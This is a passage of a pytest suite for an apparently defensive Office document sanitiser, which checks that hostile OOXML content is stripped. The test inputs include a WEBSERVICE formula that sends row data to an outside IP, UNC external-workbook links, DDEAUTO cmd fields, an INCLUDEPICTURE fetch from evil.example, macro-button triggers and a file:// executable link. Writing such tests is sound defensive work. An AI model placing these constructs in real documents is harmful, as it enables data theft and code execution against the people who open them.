               f'w:url="{url}"/></w:settings>')
        edit = {part: lambda x: x.replace("</w:settings>", tag)}
    else:
        base, part = make_xlsx(tmp_path / "b.xlsx"), "xl/workbook.xml"
        tag = ('<smartTagTypes><smartTagType namespaceUri="urn:schemas-microsoft-com:office:smarttags" '
               f'name="PersonName" url="{url}"/></smartTagTypes>')
        edit = {part: lambda x: re.sub(r"(<calcPr[^>]*/>)", lambda m: m.group(1) + tag, x)}
    src = patch(base, tmp_path / f"s.{kind}", edit=edit)
    assert "tags.dll" in _read(src, part)
    r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / f"o.{kind}")
    out = _read(tmp_path / f"o.{kind}", part)
    assert "tags.dll" not in out
    if kind == "docx":
        found = [t for t in r.threats if t.id == "ooxml.external_relationship"]
        assert [(t.location, t.detail) for t in found] == [(part, f"smart tag download address {url}")], r.threats
        assert 'w:name="PersonName"' in out
    else:  # outside the workbook's vocabulary: the smart tag types go whole
        assert "smartTagType" not in out and "ooxml.unknown_markup" in {t.id for t in r.threats}
    assert inspect_ooxml(_ctx(tmp_path), tmp_path / f"o.{kind}") == []
    if kind == "docx":  # inspect's byte pre-scan must not skip the settings part holding it
        assert any(t[0] == "ooxml.external_relationship" for t in _prescan_same_as_full(src, tmp_path))
    assert process(src, src.name, tmp_path / "p", default_policy).verdict == "sanitized"
    from cdr.fuzz import oracle

    assert any("smart tag" in x for x in oracle.scan_file(src)) and oracle.scan_file(tmp_path / f"o.{kind}") == []


def test_chart_and_control_references_to_another_workbook_become_values(tmp_path, default_policy):
    """A chart's data references, a shape's text link, a form control's cell link and list range are
    formulas like a cell's: one that reads another workbook by a UNC path (Excel offers to update it, and
    the update is an SMB connection to the sender's server) was delivered clean. Now each gives way to what
    it shows: a series its cached numbers (numLit), its name and the title their cached text, a label range
    extension goes, categories in several levels go (the axis numbers them)."""
    from samples.office_samples import make_xlsx

    anchor = ('<twoCellAnchor><from><col>1</col><colOff>0</colOff><row>8</row><rowOff>0</rowOff></from><to><col>3'
              '</col><colOff>0</colOff><row>10</row><rowOff>0</rowOff></to><sp macro="" textlink="{link}"><nvSpPr>'
              '<cNvPr id="3" name="TextBox 2"/><cNvSpPr txBox="1"/></nvSpPr><spPr/><txBody><a:bodyPr xmlns:a="http:'
              '//schemas.openxmlformats.org/drawingml/2006/main"/><a:p xmlns:a="http://schemas.openxmlformats.org/'
              'drawingml/2006/main"><a:r><a:t>合計 245</a:t></a:r></a:p></txBody></sp><clientData/></twoCellAnchor>')
    src = patch(make_xlsx(tmp_path / "b.xlsx"), tmp_path / "c.xlsx", edit={
        "xl/charts/chart1.xml": chart_reading_another_book,
        "xl/drawings/drawing1.xml": lambda x: x.replace(
            "</wsDr>", anchor.format(link=f"{EXTERNAL_BOOK}!$B$5".replace("'", "&apos;")) + "</wsDr>")})
    r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / "o.xlsx")
    found = [t for t in r.threats if t.id == "ooxml.external_link"]
    assert {t.location for t in found} == {"xl/charts/chart1.xml", "xl/drawings/drawing1.xml"}, r.threats
    chart = _read(tmp_path / "o.xlsx", "xl/charts/chart1.xml")
    drawing = _read(tmp_path / "o.xlsx", "xl/drawings/drawing1.xml")
    assert "203.0.113.9" not in chart + drawing and "textlink" not in drawing and "合計 245" in drawing
    ns = {"c": "http://schemas.openxmlformats.org/drawingml/2006/chart",
          "a": "http://schemas.openxmlformats.org/drawingml/2006/main"}
    root = etree.fromstring(chart.encode())
    assert root.xpath("//c:ser/c:val/c:numLit/c:pt/c:v/text()", namespaces=ns) == ["120", "80", "45"]
    assert root.xpath("//c:ser/c:val/c:numLit/c:formatCode/text()", namespaces=ns) == ["General"]
    assert root.xpath("//c:ser/c:tx/c:v/text()", namespaces=ns) == ["人口"]
    assert root.xpath("//c:title/c:tx/c:rich/a:p/a:r/a:t/text()", namespaces=ns) == ["人口"]
    assert not root.xpath("//c:cat | //c:extLst | //c:numRef | //c:strRef", namespaces=ns)
    assert inspect_ooxml(_ctx(tmp_path), tmp_path / "o.xlsx") == []
    assert any(t[0] == "ooxml.external_link" for t in _prescan_same_as_full(src, tmp_path))
    assert process(src, "c.xlsx", tmp_path / "p", default_policy).verdict == "sanitized"
    # A chart and a shape that read this workbook (and a title with brackets in its text) stay as they are.
    plain = patch(make_xlsx(tmp_path / "b2.xlsx"), tmp_path / "p.xlsx", edit={
        "xl/drawings/drawing1.xml": lambda x: x.replace("</wsDr>", anchor.format(link="集計表!$B$5") + "</wsDr>"),
        "xl/charts/chart1.xml": lambda x: x.replace("<a:t>地区別人口</a:t>", "<a:t>地区別人口 (2026) [人]</a:t>").replace(
            "<f>'集計表'!$B$2:$B$4</f>", "<f>[0]!人口範囲</f>")})  # [0]: this workbook's defined name
    r = rebuild_ooxml(_ctx(tmp_path), plain, tmp_path / "po.xlsx")
    assert [t for t in r.threats if t.id != "ooxml.metadata"] == [], r.threats
    assert 'textlink="集計表!$B$5"' in _read(tmp_path / "po.xlsx", "xl/drawings/drawing1.xml")
    assert "<f>[0]!人口範囲</f>" in _read(tmp_path / "po.xlsx", "xl/charts/chart1.xml")
    assert X.formula_threat("SUM([0]!人口範囲)", "web") is None and X.formula_threat("[1]S!A1", "web")


def test_table_column_and_totals_formulas_are_judged_like_cells(tmp_path, default_policy):
    """A table's calculatedColumnFormula is what Excel writes into every row a clerk adds, its
    totalsRowFormula the totals cell's: a fetching function there was delivered clean (the cells' own
    formulas were already judged). It goes; a plain one stays."""
    import openpyxl
    from openpyxl.worksheet.table import Table

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["地区", "人口", "照会"])
    ws.append(["北部", 120, 1])
    ws.append(["南部", 80, 2])
    ws.add_table(Table(displayName="人口表", ref="A1:C3"))
    wb.save(tmp_path / "t.xlsx")
    fetch = "WEBSERVICE(&quot;http://203.0.113.9/?q=&quot;&amp;人口表[[#This Row],[人口]])"
    src = patch(tmp_path / "t.xlsx", tmp_path / "tf.xlsx", edit={"xl/tables/table1.xml": lambda x: x.replace(
        '<tableColumn id="2" name="人口"/>', '<tableColumn id="2" name="人口" totalsRowFunction="custom">'
        '<calculatedColumnFormula>人口表[[#This Row],[照会]]*2</calculatedColumnFormula>'
        '<totalsRowFormula>SUBTOTAL(109,人口表[人口])</totalsRowFormula></tableColumn>').replace(
        '<tableColumn id="3" name="照会"/>', '<tableColumn id="3" name="照会" totalsRowFunction="custom">'
        f'<calculatedColumnFormula>{fetch}</calculatedColumnFormula><totalsRowFormula>{fetch}</totalsRowFormula>'
        '</tableColumn>')})
    assert "WEBSERVICE" in _read(src, "xl/tables/table1.xml")
    r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / "o.xlsx")
    found = [t for t in r.threats if t.id == "ooxml.dangerous_function"]
    assert [(t.location, t.detail.endswith("(x2)")) for t in found] == [("xl/tables/table1.xml", True)], r.threats
    table = _read(tmp_path / "o.xlsx", "xl/tables/table1.xml")
    assert "WEBSERVICE" not in table and "203.0.113.9" not in table
    assert "人口表[[#This Row],[照会]]*2" in table and "SUBTOTAL(109,人口表[人口])" in table
    assert table.count('totalsRowFunction="custom"') == 1  # the column whose totals formula stayed
    assert inspect_ooxml(_ctx(tmp_path), tmp_path / "o.xlsx") == []
    assert any(t[0] == "ooxml.dangerous_function" for t in _prescan_same_as_full(src, tmp_path))
    assert process(src, "tf.xlsx", tmp_path / "p", default_policy).verdict == "sanitized"


def test_form_control_links_to_another_workbook_are_cut():
    """Form controls as Excel writes them (a ctrlProp part, and the VML of older files): a cell link or
    list range in another workbook goes with a finding; one in this workbook stays."""
    found: list = []
    ctrl = etree.fromstring(
        '<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" objectType="Drop" '
        f'dropStyle="combo" fmlaLink="$D$2" fmlaRange="{EXTERNAL_BOOK.replace(chr(39), "&apos;")}!$A$1:$A$5" sel="1"/>'.encode())
    X.disarm_ctrlprop(ctrl, lambda tid, detail: found.append((tid, detail)))
    assert ctrl.get("fmlaLink") == "$D$2" and ctrl.get("fmlaRange") is None
    assert [t for t, _ in found] == ["ooxml.external_link"]
    vml = etree.fromstring(
        '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape>'
        '<x:ClientData ObjectType="Checkbox"><x:FmlaLink>$E$2</x:FmlaLink>'
        f'<x:FmlaRange>{EXTERNAL_BOOK}!$A$1:$A$5</x:FmlaRange></x:ClientData></v:shape></xml>'.encode())
    X.disarm_vml(vml, lambda tid, detail: found.append((tid, detail)))
    assert b"FmlaLink>$E$2<" in etree.tostring(vml) and b"FmlaRange" not in etree.tostring(vml)
    assert [t for t, _ in found] == ["ooxml.external_link"] * 2
    assert X.quiet(b'<formControlPr fmlaLink="$D$2"/>', "ctrlprop") is False  # parsed, judged in the tree


def test_schema_markup_stays_only_inside_a_map_schema(tmp_path):
    """The XML Schema vocabulary is the map part's alone and only inside MapInfo/Schema: an xsd element
    in a Map, or in a worksheet, is dropped (Excel reads a schema nowhere else), and a location naming a
    Schema ID counts only for a map's own schemas."""
    xsd = 'xmlns:xsd="http://www.w3.org/2001/XMLSchema"'
    maps = XML_MAP_SCHEMAS.format(refs="").replace(
        'PreserveFormat="true"/>', f'PreserveFormat="true"><xsd:element {xsd} name="stray"/></Map>')
    src = _xml_map_workbook(tmp_path, maps, **{"xl/worksheets/sheet1.xml": lambda x: x.replace(
        "</worksheet>", f'<xsd:schema {xsd}><xsd:include schemaLocation="Schema1"/></xsd:schema></worksheet>')})
    out = tmp_path / "o.xlsx"
    rebuild_ooxml(_ctx(tmp_path), src, out)
    out_maps = _read(out, "xl/xmlMaps.xml")
    assert "stray" not in out_maps and 'name="住所"' in out_maps
    assert "XMLSchema" not in _read(out, "xl/worksheets/sheet1.xml")
    assert inspect_ooxml(_ctx(tmp_path), out) == []


def test_hyperlink_with_a_computed_target_is_removed_value_kept(tmp_path, default_policy):
    """Issue 15 (10): HYPERLINK("http://x/?id="&A1), CONCAT(...), a reference: the address is built from
    cells, so it is removed like any fetching function; the cell keeps its displayed value."""
    from samples.office_samples import make_xlsx

    computed = ['HYPERLINK("https://203.0.113.5/?id="&amp;B30,"申請")', 'HYPERLINK(CONCATENATE("https://",B30),"開く")',
                'HYPERLINK(B30,"参照")', 'HYPERLINK(_xlfn.TEXTJOIN("",TRUE,"https://x.jp/",B30),"結合")',
                'HYPERLINK(_xlfn.CONCAT("file://",B30),"ファイル")', 'IF(B30&lt;&gt;"",HYPERLINK("https://x.jp/"&amp;B30),"")']
    static = ['HYPERLINK("https://www.city.example.lg.jp/","市")', "HYPERLINK(\"#'集計表'!A1\",\"目次\")",
              '"HYPERLINK("&amp;B30&amp;")"', 'HYPERLINK("https://x.jp/" &amp; "a/","連結")']
    rows = "".join(f'<row r="{30 + i}"><c r="A{30 + i}" t="str"><f>{f}</f><v>値{i}</v></c></row>'
                   for i, f in enumerate(computed + static))
    src = patch(make_xlsx(tmp_path / "b.xlsx"), tmp_path / "h.xlsx", edit={
        "xl/worksheets/sheet1.xml": lambda x: x.replace("</sheetData>", f"{rows}</sheetData>")})
    r = process(src, "h.xlsx", tmp_path / "out", default_policy)
    assert r.verdict == "sanitized", r.reason
    hl = [t for t in r.threats if t.id == "ooxml.hyperlink"]
    assert len(hl) == 1 and f"(x{len(computed)})" in hl[0].detail, hl
    sheet = _read(r.output, "xl/worksheets/sheet1.xml")
    for i in range(len(computed)):
        assert re.search(rf'<c r="A{30 + i}" t="inlineStr"><is><t>値{i}</t></is></c>', sheet), i
    for i, f in enumerate(static):
        assert f"<f>{f}</f><v>値{len(computed) + i}</v>" in sheet, f
    assert "203.0.113.5" not in sheet and "file://" not in sheet and "CONCAT" not in sheet
    assert _prescan_same_as_full(src, tmp_path)


# ------------------------------------------------------------------ LibreOffice opens what we deliver

@pytest.mark.slow
def test_libreoffice_opens_rebuilt_files(results, tmp_path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice is not installed")
    picks = sorted(rel[len("ooxml/"):] for rel, (_s, r) in results.items() if r.output)
    assert len(picks) >= 18
    inputs = []
    for p in picks:
        _s, r = results[f"ooxml/{p}"]
        dst = tmp_path / "in" / (p.replace("/", "_") + Path(r.output).suffix)
        dst.parent.mkdir(exist_ok=True)
        shutil.copy(r.output, dst)
        inputs.append(dst)
    proc = subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
                           "--norestore", "--convert-to", "pdf", "--outdir", str(tmp_path / "pdf"),
                           *map(str, inputs)], capture_output=True, timeout=240)
    assert proc.returncode == 0, proc.stderr[-500:]
    for src in inputs:
        pdf = tmp_path / "pdf" / (src.stem + ".pdf")
        assert pdf.exists() and pdf.stat().st_size > 1000, src.name
        text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, timeout=60).stdout.decode()
        flat = re.sub(r"\s+", "", text)
        assert any(k in flat for k in ("令和6年度", "集計表", "中央区", "埋め込みオブジェクト")), (src.name, flat[:200])
        if "ddeauto" in src.name:
            assert re.sub(r"\s+", "", DDE_RESULT) in flat
        if src.name.startswith("benign_population"):
            assert "29500" in flat and "2.4" in flat  # cached formula results render


def test_cli_end_to_end(ooxml_corpus, tmp_path):
    base, _ = ooxml_corpus
    report = sanitize_report([base / "ooxml/hostile/vba.docm", base / "ooxml/hostile/encrypted.docx"],
                             tmp_path / "out", "--password", PASSWORD)
    by = {Path(e["source"]).name: e for e in report["files"]}
    assert by["vba.docm"]["verdict"] == "sanitized" and by["vba.docm"]["output"].endswith("vba.docx")
    assert {"ooxml.vba", "ooxml.macro_content_type"} <= all_threat_ids(by["vba.docm"])
    assert by["encrypted.docx"]["verdict"] == "sanitized"


def test_sheet_activex_controls_and_macro_buttons(tmp_path):
    from samples.office_samples import FAKE_OLE, add_rel, make_xlsx

    src = make_xlsx(tmp_path / "b.xlsx")
    RNS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    controls = ('<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
                '<mc:Choice Requires="x14"><controls><mc:AlternateContent><mc:Choice Requires="x14">'
                f'<control xmlns:r="{RNS}" shapeId="1025" r:id="rIdAx" name="CommandButton1"/></mc:Choice>'
                f'<mc:Fallback><control xmlns:r="{RNS}" shapeId="1025" r:id="rIdAx" name="CommandButton1"/>'
                '</mc:Fallback></mc:AlternateContent></controls></mc:Choice></mc:AlternateContent>')
    vml = ('<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
           'xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape id="_x0000_s1025" href="file:///c:/x.exe">'
           '<x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!Evil</x:FmlaMacro></x:ClientData></v:shape></xml>')
    R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    src = patch(src, tmp_path / "ax.xlsx",
                add={"xl/activeX/activeX1.xml": '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>',
                     "xl/activeX/activeX1.bin": FAKE_OLE, "xl/drawings/vmlDrawing1.vml": vml},
                edit={"xl/worksheets/_rels/sheet1.xml.rels": lambda x: add_rel(add_rel(
                    x, "rIdAx", R + "control", "../activeX/activeX1.xml"), "rIdV", R + "vmlDrawing",
                    "../drawings/vmlDrawing1.vml"),
                      "xl/worksheets/sheet1.xml": lambda x: re.sub(
                          r"(<drawing [^>]*/>)", lambda m: m.group(1) + f'<legacyDrawing xmlns:r="{RNS}" r:id="rIdV"/>'
                          + controls, x),
                      "[Content_Types].xml": lambda x: x.replace("</Types>", '<Override PartName="/xl/activeX/'
                                                                 'activeX1.xml" ContentType="application/vnd.ms-office.'
                                                                 'activeX+xml"/><Default Extension="vml" ContentType='
                                                                 '"application/vnd.openxmlformats-officedocument.'
                                                                 'vmlDrawing"/></Types>')})
    r = rebuild_ooxml(_ctx(tmp_path), src, tmp_path / "o.xlsx")
    ids = {t.id for t in r.threats}
    assert {"ooxml.activex", "ooxml.macro_reference", "ooxml.hyperlink"} <= ids, ids
    sheet = _read(tmp_path / "o.xlsx", "xl/worksheets/sheet1.xml")
    assert "controls" not in sheet and "AlternateContent" not in sheet and "legacyDrawing" in sheet
    vml_out = _read(tmp_path / "o.xlsx", "xl/drawings/vmlDrawing1.vml")
    assert "FmlaMacro" not in vml_out and "href" not in vml_out and "ClientData" in vml_out
    assert inspect_ooxml(_ctx(tmp_path), tmp_path / "o.xlsx") == []
    assert _prescan_same_as_full(src, tmp_path)


# ------------------------------------------------------------------ the inspect pre-scan (verify's fast path)

def _findings(path: Path, tmp_path: Path, prescan: bool) -> tuple[list, str | None, list[str]]:
    rb = Rebuild(_ctx(tmp_path), write=False, prescan=prescan)
    try:
        rb.run(path, None)
        err = None
    except Exception as exc:  # the same typed error either way
        err = f"{type(exc).__name__}: {getattr(exc, 'en', exc)}"
    return sorted(dataclasses.astuple(t) for t in rb.threats), err, rb.skipped


def _prescan_same_as_full(path: Path, tmp_path: Path) -> list:
    """Inspect with and without the byte pre-scan: same findings, same error, and no finding at all in a
    part the pre-scan skipped. Returns the findings (for non-vacuity checks)."""
    fast, err_fast, skipped = _findings(path, tmp_path, True)
    full, err_full, none = _findings(path, tmp_path, False)
    assert none == []
    assert (fast, err_fast) == (full, err_full), path
    # Findings inside a part (fields, formulas, actions...) are "neutralized"; none may sit in a skipped part.
    assert not {t[1] for t in full if t[2] == "neutralized"} & set(skipped), (path, skipped)
    return full or ([err_full] if err_full else [])


def test_prescan_never_misses_what_the_full_walk_finds(results, ooxml_corpus, tmp_path):
    """Every sample (benign and hostile) and every rebuilt output, inspected both ways."""
    base, samples = ooxml_corpus
    found = 0
    for rel, (s, r) in results.items():
        paths = [base / rel] if not s.password else []
        paths += [Path(r.output)] if r.output else []
        for p in paths:
            found += bool(_prescan_same_as_full(p, tmp_path))
    assert found >= 15  # the hostile inputs do have findings: the comparison is not vacuous


def test_prescan_skips_quiet_parts_only(tmp_path):
    fld = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.'
           'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:fldSimple w:instr="DDE x"/></w:p>'
           '</w:body></w:document>')
    plain = fld.replace('<w:fldSimple w:instr="DDE x"/>', "<w:r><w:t>x</w:t></w:r>")
    assert X.quiet(plain.encode(), "word_story") and not X.quiet(fld.encode(), "word_story")
    # Names the byte scan cannot see, or a prolog it does not vouch for: always parsed.
    assert not X.quiet(plain.encode("utf-16"), "word_story")
    assert not X.quiet(plain.replace("UTF-8", "ISO-8859-1").encode(), "word_story")
    assert not X.quiet(plain.replace("UTF-8", "Shift_JIS").encode("shift_jis"), "word_story")
    assert not X.quiet(plain.replace("?>\n", '?><!DOCTYPE w:document [<!ENTITY a "b">]>').encode(), "word_story")
    assert not X.quiet(plain.replace("?>\n", "?><!-- c -->").encode(), "word_story")
    assert not X.quiet(plain.encode(), "workbook")  # always parsed
    assert not X.quiet(b'<a xmlns:a="x"><a:hlinkClick action="ppaction://program"/></a>', "")
    assert not X.quiet(b'<worksheet><sheetData><row><c><x:f>CALL("a")</x:f></c></row></sheetData></worksheet>',
                       "sheet")
    assert X.quiet(b'<worksheet><sheetData><row><c><v>1</v></c></row></sheetData></worksheet>', "sheet")


def test_dangling_reference_scan():
    R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    doc = f'<w:document {R} xmlns:xr="urn:x"><a xr:uid="rId9" r:embed="rId1"/>r:id="rId7" text</w:document>'
    assert not X.has_dangling(doc.encode(), {"rId1"})  # xr:uid and text are not references
    assert X.has_dangling(doc.replace('r:embed="rId1"', 'r:embed="rId2"').encode(), {"rId1"})
    assert X.has_dangling(doc.replace('r:embed="rId1"', "r:embed = 'rId2'").encode(), {"rId1"})
    assert X.has_dangling(doc.replace('"rId1"', '"rId&#49;"').encode(), {"rId1"})  # any doubt: exact path
    o = '<v:shape xmlns:v="urn:v" xmlns:o="urn:schemas-microsoft-com:office:office" o:relid="rId3"/>'
    assert X.has_dangling(o.encode(), {"rId1"}) and not X.has_dangling(o.encode(), {"rId3"})


_W, _S, _P, _A = (f"http://schemas.openxmlformats.org/{k}" for k in (
    "wordprocessingml/2006/main", "spreadsheetml/2006/main", "presentationml/2006/main", "drawingml/2006/main"))
_XDR = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
_EP = "http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"
# One real trigger per part role: what the role's disarm function reports.
_ROLE_TRIGGERS = {
    "vml": ('<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:ClientData><x:FmlaMacro>[0]!Evil'
            '</x:FmlaMacro></x:ClientData></xml>', lambda r, rep: X.disarm_vml(r, rep)),
    "word_story": (f'<w:document xmlns:w="{_W}"><w:body><w:p><w:fldSimple w:instr="DDE a b"/></w:p></w:body>'
                   "</w:document>", lambda r, rep: X.disarm_word_story(r, {}, rep)),
    "word_settings": (f'<w:settings xmlns:w="{_W}"><w:mailMerge><w:query w:val="SELECT 1"/></w:mailMerge>'
                      "</w:settings>", lambda r, rep: X.disarm_word_settings(r, rep)),
    "sheet": (f'<worksheet xmlns="{_S}"><sheetData><row r="1"><c r="A1"><f>CALL("k","x")</f></c></row>'
              "</sheetData></worksheet>", lambda r, rep: X.disarm_sheet(r, {}, rep)),
    "ctrlprop": ('<formControlPr xmlns="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" '
                 'fmlaMacro="[0]!Evil"/>', lambda r, rep: X.disarm_ctrlprop(r, rep)),
    "drawing": (f'<xdr:wsDr xmlns:xdr="{_XDR}"><xdr:sp macro="[0]!Evil"/></xdr:wsDr>',
                lambda r, rep: X.disarm_drawing(r, rep)),
    "slide": (f'<p:sld xmlns:p="{_P}"><p:timing><p:tnLst><p:par><p:cmd type="verb" cmd="0"/></p:par></p:tnLst>'
              "</p:timing></p:sld>", lambda r, rep: X.disarm_slide(r, set(), rep)),
    "app": (f'<Properties xmlns="{_EP}"><HyperlinkBase>file:///c:/x/</HyperlinkBase></Properties>',
            lambda r, rep: X.disarm_app_props(r, {}, rep)),
    "": (f'<a:x xmlns:a="{_A}"><a:hlinkClick action="ppaction://program?x"/></a:x>',
         lambda r, rep: X.disarm_links(r, rep)),
}


@pytest.mark.parametrize("role", sorted(_ROLE_TRIGGERS))
def test_prescan_sees_each_roles_trigger(role):
    """For every role, a part its disarm function reports on is never judged quiet."""
    xml, disarm = _ROLE_TRIGGERS[role]
    found: list = []
    disarm(X.parse(xml.encode()), lambda *a: found.append(a))
    assert found, role  # a real trigger
    decl = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
    for data in (xml, decl + xml):
        assert not X.quiet(data.encode(), role), role


def test_untouched_canonical_parts_keep_their_bytes_the_rest_is_reserialised(tmp_path, default_policy):
    """A part nothing was removed from, in the form a re-serialisation would give (UTF-8 XML 1.0 without
    comments, processing instructions, CDATA or DTD), keeps its stored bytes; any other form is rebuilt."""
    src = make_docx(tmp_path / "plain.docx")
    r = process(src, src.name, tmp_path / "o1", default_policy)
    assert r.verdict == "clean"
    with _zip(src) as a, _zip(r.output) as b:
        for name in ("word/styles.xml", "word/fontTable.xml"):
            assert a.read(name) == b.read(name)
            # Deflated by us: a stored stream could hide data in its block structure.
            info = b.getinfo(name)
            with open(r.output, "rb") as fh:
                fh.seek(info.header_offset + 30 + len(info.filename.encode()))
                assert fh.read(info.compress_size) == deflate_raw(a.read(name))

    def styles(fn):
        return patch(src, tmp_path / f"{fn.__name__}.docx", edit={"word/styles.xml": fn})

    def comment(x: str) -> str:
        return x.replace("<w:docDefaults>", "<!-- hidden payload --><w:docDefaults>", 1)

    def pi(x: str) -> str:
        return x.replace("<w:docDefaults>", "<?mso-application progid='Word.Document'?><w:docDefaults>", 1)

    def cdata(x: str) -> str:
        return x.replace('w:styleId="Normal">', 'w:styleId="Normal"><w:name w:val="x"/><![CDATA[ ]]>', 1)

    for fn, gone in ((comment, b"hidden payload"), (pi, b"mso-application"), (cdata, b"CDATA")):
        r = process(styles(fn), "s.docx", tmp_path / fn.__name__, default_policy)
        assert r.verdict in ("clean", "sanitized"), r.reason
        with _zip(r.output) as b:
            out = b.read("word/styles.xml")
        assert gone not in out and b"w:docDefaults" in out
    # A link-bearing part in the same canonical form is still walked and rebuilt.
    story = patch(src, tmp_path / "field.docx", edit={"word/document.xml": lambda x: x.replace(
        "<w:body>", '<w:body><w:p><w:fldSimple w:instr="DDEAUTO cmd x"><w:r><w:t>v</w:t></w:r></w:fldSimple></w:p>',
        1)})
    r = process(story, story.name, tmp_path / "o2", default_policy)
    assert "ooxml.dde" in {t.id for t in r.threats}
    with _zip(r.output) as b:
        assert b"DDEAUTO" not in b.read("word/document.xml")


def test_canonical_and_tree_less_well_formedness_checks():
    from lxml import etree

    assert X.canonical(b'<?xml version="1.0" encoding="UTF-8"?>\n<a><b c="1">Hi! what?</b></a>')
    assert X.canonical(b'\xef\xbb\xbf<a><b c="1"/></a>')
    for bad in (b'<?xml version="1.0"?><?pi x?><a/>', b'<a><!-- c --></a>', b'<a><![CDATA[x]]></a>',
                b'<?xml version="1.0" encoding="Shift_JIS"?><a/>', '<a/>'.encode("utf-16"),
                b'<?xml version="1.1"?><a/>', b'\xef\xbb\xbf<?xml version="1.0" encoding="ISO-8859-1"?><a/>',
                b'<?xml version="1.0"?><!DOCTYPE a><a/>', b'<a/><?pi?>'):
        assert not X.canonical(bad), bad
    # Without a tree, the same documents are refused as by parse(), namespace bindings included.
    for bad in (b"", b"<a><b></a>", b"<a>&e;</a>", b"<a x='1' x='2'/>", b"<a/><b/>", b"<a>\x01</a>",
                b"<a xmlns:p='u'><q:b/></a>", b"<a><b q:x='1'/></a>", b"<a>\xff</a>", b"<a>&#0;</a>",
                b'<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'):
        with pytest.raises(ValueError):
            X.check_well_formed(bad)
        with pytest.raises((ValueError, etree.XMLSyntaxError)):
            X.parse(bad)
    X.check_well_formed(b"<a xmlns:p='u'><p:b p:c='1'/></a>")


def test_untouched_part_with_unbound_prefix_blocks(tmp_path, default_policy):
    src = make_docx(tmp_path / "plain.docx")
    bad = patch(src, tmp_path / "unbound.docx", edit={"word/fontTable.xml": lambda x: x.replace(
        "</w:fonts>", "<zz:font/></w:fonts>", 1)})
    r = process(bad, bad.name, tmp_path / "o", default_policy)
    assert r.verdict == "blocked" and "file.malformed" in {t.id for t in r.threats}


def test_namespace_errors_hidden_by_a_later_warning_still_block(tmp_path, default_policy):
    """lxml raises only when libxml2's last message is an error: a later warning (a bad xml:space) used to
    let a field keep two instr attributes (w:instr and x:instr on one URI) through rebuild and check."""
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    src = make_docx(tmp_path / "plain.docx")
    bad = patch(src, tmp_path / "dup.docx", edit={"word/document.xml": lambda x: x.replace(
        "<w:body>", f'<w:body><w:p><w:fldSimple xmlns:x="{w}" w:instr=" DATE " '
                    'x:instr=\' INCLUDEPICTURE "http://evil.example/a.png" \\d \'><w:r><w:t>v</w:t></w:r>'
                    '</w:fldSimple></w:p><w:p xml:space="bogus"/>', 1)})
    r = process(bad, bad.name, tmp_path / "o", default_policy)
    assert r.verdict == "blocked" and "file.malformed" in {t.id for t in r.threats}, r.threats
    with pytest.raises(ValueError, match="redefined"):
        X.parse(b'<a xmlns:p="u" xmlns:q="u"><b p:x="1" q:x="2"/><c xml:space="bogus"/></a>')
    with pytest.raises(ValueError, match="redefined"):
        X.parse(b'<v><a x="1" x="2"/></v>', vml=True)  # recover mode keeps both otherwise
    # Parts too big for the tree-less check's limits take the tree path (10 MB text nodes).
    big = b"<a>" + b"x" * 10_000_001 + b"</a>"
    assert X.canonical(big) and not X.untouched(big, "")


def test_web_link_relationship_used_by_a_picture_or_template_is_unhooked(tmp_path, default_policy):
    """Only hyperlink elements may use the one kind of external relationship kept (a web link): a linked
    picture (a:blip r:link) or w:attachedTemplate pointing at it would be fetched when the file opens."""
    from samples.office_samples import DOC_RELS, body_insert, rels_edit

    hl = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
    blip = ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
            'wordprocessingDrawing"><wp:extent cx="914400" cy="914400"/><wp:docPr id="99" name="p"/>'
            '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
            'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.'
            'openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="99" name="p"/><pic:cNvPicPr/>'
            '</pic:nvPicPr><pic:blipFill><a:blip r:link="rIdX1"/></pic:blipFill><pic:spPr/></pic:pic>'
            '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>'
            '<w:p><w:hyperlink r:id="rIdX1"><w:r><w:t>市のサイト</w:t></w:r></w:hyperlink></w:p>')
    base = make_docx(tmp_path / "base.docx", pictures=0)
    src = patch(base, tmp_path / "blip.docx", edit={"word/document.xml": lambda s: body_insert(s, blip),
                                                    DOC_RELS: rels_edit(("rIdX1", hl, "https://203.0.113.5/t.png",
                                                                         True))})
    r = process(src, src.name, tmp_path / "o", default_policy)
    assert r.verdict == "sanitized" and "ooxml.external_relationship" in {t.id for t in r.threats}
    doc = _read(r.output, "word/document.xml")
    assert 'r:link="rIdX1"' not in doc and 'r:id="rIdX1"' in doc and "市のサイト" in doc  # the real link stays


